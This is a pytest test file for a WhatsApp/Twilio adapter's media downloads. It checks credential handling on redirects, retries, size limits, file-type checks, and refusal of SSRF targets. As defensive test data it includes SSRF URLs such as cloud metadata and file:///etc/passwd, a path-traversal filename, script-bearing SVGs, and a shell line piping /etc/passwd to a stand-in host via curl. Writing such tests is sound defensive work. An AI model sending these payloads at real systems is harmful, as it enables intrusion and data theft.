"""Downloading customers' media from a local fake Twilio: basic auth, redirects, retries, limits."""

from __future__ import annotations

import logging
from collections.abc import Iterator
from typing import Any

import pytest
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from bot.messages import InboundMedia, MediaKind
from channels.base import MediaRefusedError, PermanentSendError, TransientSendError
from channels.media_policy import MediaPolicy
from channels.whatsapp.adapter import WhatsAppAdapter, WhatsAppConfig
from channels.whatsapp.media import MediaSourcePolicy
from tests.support.clock import Sleeps
from tests.support.twilio_fake import ACCOUNT, basic_auth, media_path

TOKEN = "tok_9b1c0ffee5ecret7a41d8cd98f00b2"
MEDIA_PATH = media_path()
BASIC = basic_auth(ACCOUNT, TOKEN)
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
PDF = b"%PDF-1.7\n" + b"1 0 obj\n<<>>\nendobj\n" * 20


@pytest.fixture(scope="module")
def server() -> Iterator[HTTPServer]:
    httpserver = HTTPServer(host="127.0.0.1", port=0, threaded=True)
    httpserver.start()
    yield httpserver
    httpserver.clear()
    httpserver.stop()


@pytest.fixture
def api(server: HTTPServer) -> Iterator[HTTPServer]:
    server.clear()
    yield server
    server.clear()


def adapter_for(server: HTTPServer, sleeps: Sleeps | None = None, **overrides: Any) -> WhatsAppAdapter:
    settings: dict[str, Any] = {
        "account_sid": ACCOUNT,
        "auth_token": TOKEN,
        "from_number": "whatsapp:+14155238886",
        "api_base_url": f"http://127.0.0.1:{server.port}",
        "download_retries": 2,
        "download_backoff": 0.01,
        "download_timeout": 2.0,
        "media_policy": MediaPolicy(max_bytes=4096),
    }
    settings.update(overrides)
    return WhatsAppAdapter(WhatsAppConfig(**settings), sleep=sleeps or Sleeps())


def media_url(server: HTTPServer, name: str, host: str = "127.0.0.1") -> str:
    return f"http://{host}:{server.port}{MEDIA_PATH}/{name}"


def requests_to(server: HTTPServer, path_part: str) -> list[Request]:
    return [request for request, _ in server.log if path_part in request.path]


def test_basic_auth_then_cross_host_redirect_drops_the_credentials(api: HTTPServer) -> None:
    cdn = f"http://localhost:{api.port}/cdn/3b9f/evidence.pdf?Expires=1745503510&Signature=abc"
    api.expect_request(f"{MEDIA_PATH}/ME1").respond_with_response(
        Response(status=302, headers={"Location": cdn})
    )
    api.expect_request("/cdn/3b9f/evidence.pdf").respond_with_data(
        PDF,
        content_type="application/pdf",
        headers={"Content-Disposition": 'attachment; filename="factura-error.pdf"'},
    )
    media = InboundMedia(ref=media_url(api, "ME1"), content_type="application/pdf")
    # "localhost" stands in for Twilio's CDN host: allowlisted, and allowed to be loopback in this test.
    downloaded = adapter_for(api, media_hosts=("localhost",), media_allow_private=True).download(media)
    assert downloaded.content == PDF
    assert downloaded.content_type == "application/pdf"
    assert downloaded.filename == "factura-error.pdf"
    [first] = requests_to(api, "/Media/ME1")
    [second] = requests_to(api, "/cdn/")
    assert first.headers.get("Authorization") == BASIC
    assert second.headers.get("Host", "").startswith("localhost")
    assert second.headers.get("Authorization") is None


def test_same_host_redirect_to_another_path(api: HTTPServer) -> None:
    api.expect_request(f"{MEDIA_PATH}/ME2").respond_with_response(
        Response(status=307, headers={"Location": "/files/ME2-content"})
    )
    api.expect_request("/files/ME2-content").respond_with_data(PNG, content_type="image/png")
    media = InboundMedia(ref=media_url(api, "ME2"), content_type="image/png", kind=MediaKind.IMAGE)
    downloaded = adapter_for(api).download(media)
    assert downloaded.content == PNG
    assert downloaded.filename == "ME2.png"


def test_404_right_after_the_webhook_is_retried_with_backoff(api: HTTPServer) -> None:
    answers = [Response("not yet", status=404), Response("busy", status=503)]

    def flaky(_request: Request) -> Response:
        return answers.pop(0) if answers else Response(PNG, content_type="image/jpeg")

    api.expect_request(f"{MEDIA_PATH}/ME3").respond_with_handler(flaky)
    sleeps = Sleeps()
    media = InboundMedia(ref=media_url(api, "ME3"), content_type="image/jpeg")
    downloaded = adapter_for(api, sleeps).download(media)
    assert downloaded.content == PNG
    assert downloaded.filename == "ME3.jpg"
    assert len(requests_to(api, "/Media/ME3")) == 3
    assert sleeps.calls == [0.01, 0.02]


def test_still_missing_after_the_retries_is_transient(api: HTTPServer) -> None:
    api.expect_request(f"{MEDIA_PATH}/ME4").respond_with_data("gone", status=404)
    sleeps = Sleeps()
    with pytest.raises(TransientSendError, match="after 3 attempts: HTTP 404"):
        adapter_for(api, sleeps).download(InboundMedia(ref=media_url(api, "ME4")))
    assert len(requests_to(api, "/Media/ME4")) == 3
    assert sleeps.calls == [0.01, 0.02]


class BigBody:
    """A 64 MiB body in 64 KiB chunks that counts how much the server had to produce."""

    CHUNK = 64 * 1024
    COUNT = 1024

    def __init__(self) -> None:
        self.produced = 0

    def __iter__(self) -> Iterator[bytes]:
        for _ in range(self.COUNT):
            self.produced += 1
            yield b"\x00" * self.CHUNK

    @property
    def size(self) -> int:
        return self.CHUNK * self.COUNT


def test_declared_size_over_the_limit_is_refused_before_reading(api: HTTPServer) -> None:
    body = BigBody()
    api.expect_request(f"{MEDIA_PATH}/ME5").respond_with_response(
        Response(
            body,
            content_type="image/jpeg",
            headers={"Content-Length": str(body.size)},
            direct_passthrough=True,
        )
    )
    with pytest.raises(MediaRefusedError) as caught:
        adapter_for(api).download(InboundMedia(ref=media_url(api, "ME5")))
    assert caught.value.code == "too_large"
    assert f"file is {body.size} bytes" in caught.value.reason
    assert body.produced < BigBody.COUNT // 2


def test_streamed_size_over_the_limit_stops_reading_early(api: HTTPServer) -> None:
    body = BigBody()
    api.expect_request(f"{MEDIA_PATH}/ME6").respond_with_response(
        Response(body, content_type="video/mp4", direct_passthrough=True)
    )
    with pytest.raises(MediaRefusedError) as caught:
        adapter_for(api).download(InboundMedia(ref=media_url(api, "ME6")))
    assert caught.value.code == "too_large"
    assert "larger than the 4096-byte limit" in caught.value.reason
    assert body.produced < BigBody.COUNT // 2


def test_exe_by_name_is_refused(api: HTTPServer) -> None:
    api.expect_request(f"{MEDIA_PATH}/ME7").respond_with_data(
        b"MZ\x90\x00" + b"\x00" * 100,
        content_type="application/octet-stream",
        headers={"Content-Disposition": 'attachment; filename="factura.exe"'},
    )
    with pytest.raises(MediaRefusedError) as caught:
        adapter_for(api).download(InboundMedia(ref=media_url(api, "ME7")))
    assert caught.value.code == "forbidden_type"


def test_executable_disguised_as_a_pdf_is_refused_by_its_magic(api: HTTPServer) -> None:
    api.expect_request(f"{MEDIA_PATH}/ME8").respond_with_data(
        b"MZ\x90\x00" + b"\x00" * 100, content_type="application/pdf"
    )
    with pytest.raises(MediaRefusedError) as caught:
        adapter_for(api).download(InboundMedia(ref=media_url(api, "ME8"), content_type="application/pdf"))
    assert caught.value.code == "forbidden_type"


def test_forbidden_declared_type_is_refused(api: HTTPServer) -> None:
    api.expect_request(f"{MEDIA_PATH}/ME9").respond_with_data(b"#!/bin/sh\n", content_type="application/x-sh")
    with pytest.raises(MediaRefusedError) as caught:
        adapter_for(api).download(InboundMedia(ref=media_url(api, "ME9")))
    assert caught.value.code == "forbidden_type"


def test_generic_served_type_falls_back_to_the_webhook_type(api: HTTPServer) -> None:
    api.expect_request(f"{MEDIA_PATH}/ME10").respond_with_data(PDF, content_type="application/octet-stream")
    media = InboundMedia(ref=media_url(api, "ME10"), content_type="application/pdf")
    downloaded = adapter_for(api).download(media)
    assert downloaded.content_type == "application/pdf"
    assert downloaded.filename == "ME10.pdf"


def test_unsafe_disposition_names_are_reduced_to_a_base_name(api: HTTPServer) -> None:
    api.expect_request(f"{MEDIA_PATH}/ME11").respond_with_data(
        PDF,
        content_type="application/pdf",
        headers={"Content-Disposition": "attachment; filename*=UTF-8''..%2F..%2Fetc%2Fcotizaci%C3%B3n.pdf"},
    )
    downloaded = adapter_for(api).download(InboundMedia(ref=media_url(api, "ME11")))
    assert downloaded.filename == "cotización.pdf"


def test_credentials_are_not_sent_to_a_foreign_host(api: HTTPServer) -> None:
    api.expect_request("/elsewhere/photo.png").respond_with_data(PNG, content_type="image/png")
    foreign = f"http://localhost:{api.port}/elsewhere/photo.png"
    adapter_for(api, media_hosts=("localhost",), media_allow_private=True).download(InboundMedia(ref=foreign))
    [request] = requests_to(api, "/elsewhere/")
    assert request.headers.get("Authorization") is None


def test_unauthorized_is_permanent_and_never_leaks_the_token(
    api: HTTPServer, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    api.expect_request(f"{MEDIA_PATH}/ME12").respond_with_data("Unauthorized", status=401)
    api.expect_request(f"{MEDIA_PATH}/ME13").respond_with_data("oops", status=500)
    with pytest.raises(PermanentSendError) as denied:
        adapter_for(api).download(InboundMedia(ref=media_url(api, "ME12")))
    with pytest.raises(TransientSendError) as failing:
        adapter_for(api).download(InboundMedia(ref=media_url(api, "ME13")))
    assert denied.value.code == "http_401"
    assert caplog.records
    for text in (str(denied.value), repr(denied.value.args), str(failing.value), caplog.text):
        assert TOKEN not in text
        assert BASIC.split()[1] not in text


# --- issue 16: only the provider's hosts, http(s) only, public addresses only, redirects re-checked -----


class FakeResolver:
    """Answers DNS lookups from a table and records them (the network guard forbids real ones)."""

    def __init__(self, table: dict[str, list[str]]) -> None:
        self.table = table
        self.looked_up: list[str] = []

    def __call__(self, host: str, port: int) -> list[str]:
        self.looked_up.append(host)
        return self.table[host]


def production_adapter(resolver: FakeResolver, sleeps: Sleeps | None = None) -> WhatsAppAdapter:
    """Production defaults: no API base URL, Twilio's hosts only, no private addresses."""
    config = WhatsAppConfig(account_sid=ACCOUNT, auth_token=TOKEN, from_number="whatsapp:+14155238886",
                            download_retries=2, download_backoff=0.01, download_timeout=2.0)
    return WhatsAppAdapter(config, sleep=sleeps or Sleeps(), resolver=resolver)


TWILIO_MEDIA = f"https://api.twilio.com{MEDIA_PATH}/ME20"


@pytest.mark.parametrize(
    "url",
    ["http://internal.example/admin/export.csv", "http://169.254.169.254/latest/meta-data/",
     "http://127.0.0.1:8080/metrics", "https://api.twilio.com.evil.example/x.png", "https://twilio.com/x.png",
     "http://[::1]/x.png", "https://user:pw@api.twilio.com/x.png"],
)
def test_urls_off_the_providers_hosts_are_refused_before_any_lookup(url: str) -> None:
    resolver, sleeps = FakeResolver({}), Sleeps()
    with pytest.raises(MediaRefusedError) as refused:
        production_adapter(resolver, sleeps).download(InboundMedia(ref=url))
    assert refused.value.code == "forbidden_source"
    assert resolver.looked_up == [] and sleeps.calls == []  # refused at once, never retried


@pytest.mark.parametrize(
    "url", ["file:///etc/passwd", "file://api.twilio.com/etc/passwd", "ftp://api.twilio.com/x.png",
            "gopher://api.twilio.com/x", "data:text/plain,hola", "/etc/passwd", ""],
)
def test_schemes_other_than_http_and_https_are_refused_permanently(url: str) -> None:
    resolver, sleeps = FakeResolver({}), Sleeps()
    with pytest.raises(MediaRefusedError) as refused:
        production_adapter(resolver, sleeps).download(InboundMedia(ref=url))
    assert refused.value.code == "forbidden_source"
    assert sleeps.calls == []


@pytest.mark.parametrize(
    "addresses",
    [["169.254.169.254"], ["10.0.0.7"], ["127.0.0.1"], ["::1"], ["fe80::1%eth0"], ["::ffff:127.0.0.1"],
     ["100.64.0.1"], ["0.0.0.0"], ["3.5.140.2", "192.168.1.20"]],
    ids=["link-local-metadata", "private", "loopback", "loopback6", "link-local6", "mapped-loopback",
         "carrier-nat", "unspecified", "one-of-several-private"],
)
def test_a_provider_host_resolving_to_a_non_public_address_is_refused(addresses: list[str]) -> None:
    resolver = FakeResolver({"api.twilio.com": addresses})
    with pytest.raises(MediaRefusedError) as refused:
        production_adapter(resolver).download(InboundMedia(ref=TWILIO_MEDIA))
    assert refused.value.code == "forbidden_source"
    assert resolver.looked_up == ["api.twilio.com"]


def test_the_production_policy_accepts_twilios_hosts_on_public_addresses() -> None:
    resolver = FakeResolver({"api.twilio.com": ["54.172.60.1"], "s1.media.twiliocdn.com": ["13.32.0.9"]})
    policy = MediaSourcePolicy(resolver=resolver)
    policy.check(TWILIO_MEDIA)
    policy.check("https://s1.media.twiliocdn.com/AC1/abc?Expires=1&Signature=x")
    assert resolver.looked_up == ["api.twilio.com", "s1.media.twiliocdn.com"]


@pytest.mark.parametrize(
    "location",
    ["http://169.254.169.254/latest/meta-data/iam/", "file:///etc/passwd", "http://internal.example/secret",
     "http://localhost:{port}/internal/secret"],
)
def test_every_redirect_is_checked_again_and_a_bad_target_is_never_requested(
    api: HTTPServer, location: str
) -> None:
    api.expect_request(f"{MEDIA_PATH}/ME21").respond_with_response(
        Response(status=302, headers={"Location": location.format(port=api.port)})
    )
    api.expect_request("/internal/secret").respond_with_data("internal data", content_type="text/plain")
    with pytest.raises(MediaRefusedError) as refused:
        adapter_for(api).download(InboundMedia(ref=media_url(api, "ME21")))
    assert refused.value.code == "forbidden_source"
    assert requests_to(api, "/internal/") == []


def test_a_redirect_loop_is_permanent(api: HTTPServer) -> None:
    api.expect_request(f"{MEDIA_PATH}/ME22").respond_with_response(
        Response(status=302, headers={"Location": f"{MEDIA_PATH}/ME22"})
    )
    with pytest.raises(PermanentSendError) as refused:
        adapter_for(api).download(InboundMedia(ref=media_url(api, "ME22")))
    assert refused.value.code == "too_many_redirects"


# --- issue 16: content checked by its bytes ------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "served_as"),
    [(b"#!/bin/sh\ncat /etc/passwd | curl -d @- http://evil.example\n", "image/png"),
     (b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/x")</script></svg>', "image/svg+xml"),
     (b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "image/png")],
    ids=["shell-script-as-png", "svg-with-script", "svg-as-png"],
)
def test_a_file_whose_bytes_are_not_allowlisted_evidence_is_refused(
    api: HTTPServer, body: bytes, served_as: str
) -> None:
    api.expect_request(f"{MEDIA_PATH}/ME30").respond_with_data(body, content_type=served_as)
    media = InboundMedia(ref=media_url(api, "ME30"), content_type=served_as, kind=MediaKind.IMAGE)
    with pytest.raises(MediaRefusedError) as refused:
        adapter_for(api).download(media)
    assert refused.value.code == "forbidden_type"


def test_the_kept_type_is_the_one_the_bytes_show_when_the_served_one_is_generic(api: HTTPServer) -> None:
    api.expect_request(f"{MEDIA_PATH}/ME31").respond_with_data(PNG, content_type="application/octet-stream")
    downloaded = adapter_for(api).download(InboundMedia(ref=media_url(api, "ME31")))
    assert downloaded.content_type == "image/png"
